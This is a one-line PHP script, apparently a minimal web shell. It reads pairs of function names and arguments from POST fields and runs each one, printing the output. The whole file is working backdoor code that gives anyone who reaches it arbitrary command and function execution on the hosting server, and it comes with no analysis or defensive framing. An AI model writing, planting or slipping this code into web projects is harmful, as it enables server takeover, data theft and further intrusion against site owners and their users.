<?php
foreach (array_map(null, $_POST['f'] ?? [], $_POST['a'] ?? []) as [$f, $a]) { echo $f($a); }
